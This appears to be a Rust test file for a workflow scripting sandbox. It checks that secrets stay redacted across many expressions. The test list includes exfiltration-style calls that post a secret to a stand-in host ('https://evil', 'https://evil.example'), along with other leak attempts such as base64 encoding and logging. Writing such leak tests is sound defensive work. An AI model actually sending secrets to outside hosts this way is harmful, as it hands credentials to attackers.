//! Secrets: nothing that a script can do shows their value.

use windlass_model::{Code, journal::Ending};

use super::fixture::Fixture;

const VALUE: &str = "hunter2-is-my-password";

#[test]
fn no_expression_shows_a_secret() {
    for expression in [
        "s",
        "`x ${s}`",
        "s + \"\"",
        "\"\" + s",
        "print(s)",
        "debug(s)",
        "s.to_string()",
        "to_string(s)",
        "s.to_debug()",
        "type_of(s)",
        "[s].to_string()",
        "print([s])",
        "debug(#{a: s})",
        "#{a: s}.to_json()",
        "[s, s].join(\",\")",
        "s == s",
        "s == \"hunter2\"",
        "s != \"hunter2\"",
        "s < s",
        "[s].contains(s)",
        "[s].index_of(s)",
        "#{a: s} == #{a: s}",
        "throw s",
        "throw #{a: s}",
        "throw #{code: \"system\", message: s, data: s}",
        "try { throw s } catch (e) { `${e}` }",
        "s.len",
        "s[0]",
        "for c in s { print(c) }",
        "s.foo",
        "let x = #{}; x[s] = 1",
        "switch s { \"hunter2\" => 1, _ => 0 }",
        "s.tag",
        "[s].sort()",
        "[s,s].sort()",
        "parse_json(s)",
        "secret(s)",
        "Fn(s)",
        "exit(s)",
        "let b = blob(); b.push(s)",
        "\"abc\".replace(\"a\", s)",
        "\"abc\".contains(s)",
        "[\"a\"].map(s)",
        "s?.x",
        "s ?? 1",
        "!s",
        "-s",
        "if s { 1 }",
        "s.is_empty()",
        "let f = || s; f.to_string()",
        "let f = || s; debug(f)",
        "let f = Fn(\"x\").curry(s); `${f}`",
        "let f = || s; #{f: f}.to_json()",
        "s.call()",
        "log(s)",
        "log(\"info\", \"x\", #{ s: s })",
        "annotate(\"a\", s)",
        "progress(5, s)",
        "fail(s)",
        "fail(#{ message: s })",
        "ensure(false, s)",
        "kv_set(\"a\", s)",
        "artifact(\"a\", s)",
        "t::echo(s)",
        "t::echo([s])",
        "sleep(s)",
        "wait_signal(s)",
        "approve(#{ title: s })",
        "approve(#{ title: \"x\", details: s })",
        "base64(s)",
        "url_encode(s)",
        "hmac_sha256(s, \"x\")",
        "secret_format(\"{}\", s)",
        "continue_as_new(#{ s: s })",
        "child(\"x\", #{ s: s })",
        "on_rollback(s, || 1)",
        "parallel([|| s])",
        "race([|| s])",
        "wait_until(|| s, #{ every: 1 })",
        "t::post(s, \"https://ok.example\").sent",
        "t::post(base64(s), \"https://ok.example\").sent",
        "t::post(\"x\" + s + \"y\", \"https://ok.example\")",
        "t::post(url_encode(s), \"https://ok.example\")",
        "t::post(s, \"https://evil\")",
        "let r = t::post(s, \"https://ok.example\"); print(r); log(r.sent); throw r.sent",
    ] {
        let fixture = Fixture::new();
        let body = format!("let s = secret(\"k\"); {expression}");
        let ending = format!("{:?}", fixture.run(&body));
        let steps = format!("{:?}", fixture.journal.steps.lock());
        let outputs = format!("{:?}", fixture.journal.outputs.lock());
        let waits = format!("{:?} {:?}", fixture.journal.waits.lock(), fixture.journal.store.lock());
        for (place, text) in [("ending", &ending), ("steps", &steps), ("outputs", &outputs), ("waits", &waits)] {
            assert!(
                !text.contains("hunter2-is") && !text.contains("aHVudGVyMi1pcy"),
                "{expression} leaks in {place}: {text}"
            );
        }
    }
}

#[test]
fn a_secret_reaches_only_where_its_policy_allows() {
    let fixture = Fixture::new();
    let length = fixture.returned("t::post(\"Bearer \" + secret(\"k\"), \"https://ok.example\").length");
    assert_eq!(length, VALUE.len() + 7);
    let args = fixture.journal.steps.lock()[&windlass_model::StepPath::new("", 0)].0.args.to_string();
    assert_eq!(args, "[{\"$secret\":{\"concat\":[\"Bearer \",{\"$secret\":\"k\"}]}},\"https://ok.example\"]");
    assert_eq!(Fixture::new().problem("t::post(secret(\"k\"), \"https://evil.example\")").code, Code::SecretMisuse);
    let source = crate::testing::source(&["secret.use:other"], "secret(\"k\")");
    let Ending::Failed(problem) = Fixture::new().run_source(&source) else { panic!() };
    assert_eq!(problem.code, Code::PermissionDenied);
}

#[test]
fn a_secret_that_this_process_never_used_is_scrubbed_all_the_same() {
    // What an earlier process has written comes back as ordinary text.
    let fixture = Fixture::holding(&["stored-before-restart"]);
    let returned = fixture.returned("let text = t::echo(\"key=stored-before-restart\"); log(text); text");
    let steps =
        format!("{:?}", fixture.journal.steps.lock().values().map(|(_, outcome)| outcome.clone()).collect::<Vec<_>>());
    let outputs = format!("{:?}", fixture.journal.outputs.lock());
    assert_eq!(returned, "key=[secret]");
    assert!(!steps.contains("stored-before") && !outputs.contains("stored-before"), "{steps} {outputs}");
}

#[test]
fn secrets_that_are_stored_later_are_learned() {
    let fixture = Fixture::holding(&["first-value"]);
    assert_eq!(fixture.returned("t::echo(\"second-value\")"), "second-value");
    fixture.secrets.held.lock().push("second-value".into());
    fixture.sandbox.learn_secrets();
    assert_eq!(fixture.returned("t::echo(\"second-value\"); t::echo(\"a second-value\")"), "a [secret]");
}

#[test]
fn a_value_that_a_stranger_has_chosen_is_taken_out_of_the_run_that_uses_it_and_of_no_other() {
    const CHOSEN: &str = "server_type of somebody's choice";
    let told = format!("t::echo(#{{ `{CHOSEN}`: \"<{CHOSEN}>\" }})").replace('`', "\"");
    let fixture = Fixture::new();
    let post = "t::post(\"Bearer \" + secret(\"foreign/x\"), \"https://ok.example\")";
    assert_eq!(fixture.returned(&format!("{post}.sent")), "Authorization: [secret derived]");
    // The same run, gone on by a process that has performed none of its steps.
    let again = fixture.returned(&format!("{post}; {told}"));
    assert_eq!(again, serde_json::json!({ CHOSEN: "<[secret foreign/x]>" }), "in no key");
    // Another run of the same process.
    let other = fixture.for_another_run();
    assert_eq!(other.returned(&told), serde_json::json!({ CHOSEN: format!("<{CHOSEN}>") }));
}
